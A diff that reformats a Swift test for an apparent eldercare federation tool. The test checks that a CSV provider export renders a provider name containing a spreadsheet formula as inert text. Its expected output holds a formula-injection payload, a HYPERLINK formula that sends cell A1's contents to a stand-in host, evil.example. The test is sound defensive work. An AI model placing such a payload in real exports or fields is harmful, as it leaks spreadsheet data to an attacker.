@@ -1,7 +1,7 @@
+import Eldercare
 import FederationNode
 import Foundation
 import Testing
-import Eldercare
 
 /// `fedctl report providers --format csv` against a running node whose provider names a formula: the
 /// export a city hands to Excel shows it as text.
@@ -38,8 +38,11 @@ import Eldercare
         let recorded = try await federation.post(Self.street, "/api/v1/visits", json: visits)
         #expect((recorded["accepted"] as? NSNumber)?.intValue == names.count, "\(recorded)")
         let csv = try federation.fedctl(
-            ["report", "providers", "--node", federation.url(Self.street), "--period", "month", "--date", "2026-01-15",
-             "--format", "csv"],
+            [
+                "report", "providers", "--node", federation.url(Self.street), "--period", "month", "--date",
+                "2026-01-15",
+                "--format", "csv",
+            ],
             environment: ["ELDERCARE_TOKEN": federation.nodes[Self.street]?.token ?? ""])
         #expect(csv.status == 0, "\(csv.error)")
         #expect(csv.output.contains(#","'=HYPERLINK(""http://evil.example/?d=""&A1,""详情"")","#), "\(csv.output)")
@@ -67,7 +70,12 @@ import Eldercare
             if quoted {
                 if character == "\"" {
                     let next = characters.next()
-                    if next == "\"" { cell.append("\"") } else { quoted = false; pending = next }
+                    if next == "\"" {
+                        cell.append("\"")
+                    } else {
+                        quoted = false
+                        pending = next
+                    }
                 } else {
                     cell.append(character)
                 }
